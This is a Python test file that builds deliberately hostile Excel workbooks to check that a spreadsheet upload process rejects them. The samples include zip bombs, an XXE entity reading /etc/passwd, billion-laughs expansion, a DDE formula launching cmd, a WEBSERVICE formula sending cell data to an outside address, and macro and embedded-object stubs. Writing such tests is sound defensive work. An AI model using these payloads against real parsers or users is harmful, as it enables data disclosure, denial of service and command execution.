"""Workbooks that no spreadsheet program would write: bombs, programs, references to elsewhere."""

import io
import struct
import zipfile

from tests.hostile.case import Case, kept, refused
from tests.unit.intake.making import ITEM

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def text(at: str, value: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{value}</t></is></c>'


HEADER = "".join(text(f"{column}1", name) for column, name in zip("ABCDE", ITEM, strict=True))
VALUES = ("VOLTERA", "FRM-201", "A", "Frame", "PCE")


def stray(address: str, row: int = 1_048_576) -> str:
    return f'<row r="{row}"><c r="{address}"><v>1</v></c></row>'


def rows(*cells: str) -> str:
    """A sheet with the header of an item load and one row; a cell given replaces that of its address."""
    given = {cell.split('"')[1]: cell for cell in cells}
    made = {f"{column}2": text(f"{column}2", value) for column, value in zip("ABCDE", VALUES, strict=True)}
    return f'<row r="1">{HEADER}</row><row r="2">{"".join((made | given).values())}</row>'


def sheet(inside: str, before: str = "", after: str = "") -> str:
    return f'{before}<worksheet xmlns="{_MAIN}"><sheetData>{inside}</sheetData>{after}</worksheet>'


def workbook(page: str, more: dict[str, bytes | str] | None = None, strings: str | None = None) -> bytes:
    out = io.BytesIO()
    shared = f'<Relationship Id="r2" Type="{_RELATIONS}/sharedStrings" Target="sharedStrings.xml"/>' if strings else ""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<Types xmlns="{_PACKAGE}/content-types"/>')
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATIONS}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
            "</workbook>",
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type="{_RELATIONS}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type="{_RELATIONS}/worksheet" '
            f'Target="worksheets/sheet1.xml"/>{shared}</Relationships>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", page)
        if strings:
            archive.writestr("xl/sharedStrings.xml", strings)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def claiming(size: int) -> bytes:
    """The directory says that a member of five million bytes holds `size`."""
    data = workbook(sheet(rows()), {"xl/media/big": bytes(5_000_000)})
    return data.replace(struct.pack("<L", 5_000_000), struct.pack("<L", size))


def _letters(number: int) -> str:
    return chr(65 + number // 26) + chr(65 + number % 26)


def broken_packing() -> bytes:
    data = bytearray(workbook(sheet(rows())))
    at = data.index(b"xl/worksheets/sheet1.xml") + 60
    data[at : at + 80] = bytes(80)
    return bytes(data)


def shared_strings() -> bytes:
    """One string of 30,000 characters, shown in 80,000 cells."""
    letters = [_letters(number) for number in range(400)]
    page = "".join(
        f'<row r="{number}">{"".join(f"""<c r="{letter}{number}" t="s"><v>0</v></c>""" for letter in letters)}</row>'
        for number in range(1, 200)
    )
    return workbook(sheet(page), strings=f'<sst xmlns="{_MAIN}"><si><t>{"x" * 30_000}</t></si></sst>')


def merged() -> bytes:
    ranges = "".join(f'<mergeCell ref="A{n}:XFD{n + 1000}"/>' for n in range(1, 20_000))
    return workbook(sheet(rows(), after=f"<mergeCells>{ranges}</mergeCells>"))


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_FORMULAS = {
    "dde": "cmd|'/C calc'!A0",
    "web": 'WEBSERVICE("http://192.0.2.1/"&amp;A1)',
    "link": 'HYPERLINK("http://192.0.2.1/","click")',
    "other-book": "[1]Sheet1!A1",
    "without-a-result": "1+1",
}


def _note(name: str, content: bytes, says: str) -> Case:
    return kept("items.xlsm" if "vba" in name else "items.xlsx", lambda: workbook(sheet(rows()), {name: content}), says)


CASES: dict[str, Case] = {
    "xlsx-claims-2-gb": refused("items.xlsx", lambda: claiming(2**31), "an archive that grows"),
    "xlsx-bomb": refused(
        "items.xlsx", lambda: workbook(sheet(rows()), {"xl/media/big": bytes(30_000_000)}), "an archive that grows"
    ),
    "xlsx-lying-directory": refused("items.xlsx", lambda: claiming(1000), "a damaged archive"),
    "xlsx-archive-within": refused(
        "items.xlsx", lambda: workbook(sheet(rows()), {"xl/embeddings/a.zip": b"PK"}), "an archive within the archive"
    ),
    "xlsx-external-entity": refused(
        "items.xlsx",
        lambda: workbook(sheet(rows(text("B2", "&x;")), before=_XXE)),
        "cannot be read",
    ),
    "xlsx-billion-laughs": refused(
        "items.xlsx",
        lambda: workbook(
            sheet(rows('<c r="B2" t="s"><v>0</v></c>')),
            strings=f'<!DOCTYPE s [<!ENTITY l0 "lol">{_LAUGHS}]><sst xmlns="{_MAIN}"><si><t>&l9;</t></si></sst>',
        ),
        "cannot be read",
    ),
    "xlsx-shared-strings-bomb": refused("items.xlsx", shared_strings, ""),
    "xlsx-cell-at-the-far-corner": refused(
        "items.xlsx", lambda: workbook(sheet(rows() + stray("XFD1048576"))), "cells as far out as XFD1048576"
    ),
    "xlsx-cell-far-out-in-a-row-that-lies": refused(
        "items.xlsx", lambda: workbook(sheet(rows() + stray("XFD4999", row=3))), "cells as far out as XFD4999"
    ),
    "xlsx-merged-ranges-bomb": kept("items.xlsx", merged, "merged cells"),
    "xlsx-cell-at-the-far-end": refused(
        "items.xlsx", lambda: workbook(sheet(rows() + f'<row r="1048576">{text("XFD1048576", "far")}</row>')), ""
    ),
    "xlsx-600-columns": refused(
        "items.xlsx",
        lambda: workbook(sheet(f'<row r="1">{"".join(text(f"{_letters(n)}1", f"c{n}") for n in range(600))}</row>')),
        "600 columns",
    ),
    "xlsx-too-many-rows": refused(
        "items.xlsx",
        lambda: workbook(sheet(rows() + "".join(f'<row r="{n}">{text(f"A{n}", "x")}</row>' for n in range(3, 6000)))),
        "5998 rows",
    ),
    "xlsx-huge-cell": refused("items.xlsx", lambda: workbook(sheet(rows(text("D2", "x" * 300_000)))), ""),
    "xlsx-right-to-left-override": refused(
        "items.xlsx", lambda: workbook(sheet(rows(text("D2", "Frame\u202egpj.exe")))), "U+202E"
    ),
    "xlsx-error-value": refused(
        "items.xlsx", lambda: workbook(sheet(rows('<c r="B2" t="e"><v>#REF!</v></c>'))), "an error value"
    ),
    "xlsx-number-1e400": refused("items.xlsx", lambda: workbook(sheet(rows('<c r="B2"><v>1e400</v></c>'))), ""),
    "xlsx-number-for-a-code": refused(
        "items.xlsx",
        lambda: workbook(sheet(rows('<c r="B2"><v>123456789012345678</v></c>'))),
        "damaged by the spreadsheet",
    ),
    "xlsx-address-that-is-none": refused("items.xlsx", lambda: workbook(sheet(rows(text("ZZZZ99999999", "x")))), ""),
    "xlsx-without-its-sheet": refused(
        "items.xlsx", lambda: workbook(sheet(rows())).replace(b"sheet1.xml", b"sheet9.xml", 1), ""
    ),
    "xlsx-broken-packing": refused("items.xlsx", broken_packing, "a damaged archive"),
    "xlsx-truncated": refused("items.xlsx", lambda: workbook(sheet(rows()))[:-100], "a damaged archive"),
    "xlsx-locked-by-a-password": kept(
        "items.xlsx", bytes.fromhex("d0cf11e0a1b11ae1") + b"EncryptedPackage" * 40, "claimed to be"
    ),
    "xlsx-called-so-only": kept("items.xlsx", "owner,part\nVOLTERA,FRM-1\n", "claimed to be"),
    **{
        f"xlsx-formula-{name}": refused(
            "items.xlsx",
            lambda formula=formula: workbook(sheet(rows(f'<c r="B2" t="str"><f>{formula}</f><v>FRM-1</v></c>'))),
            "a formula",
        )
        for name, formula in _FORMULAS.items()
    },
    "xlsx-macros": _note("xl/vbaProject.bin", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "macros"),
    "xlsx-links-to-other-books": _note(
        "xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', "other files"
    ),
    "xlsx-embedded-object": _note("xl/embeddings/oleObject1.bin", bytes(600), "embedded"),
}
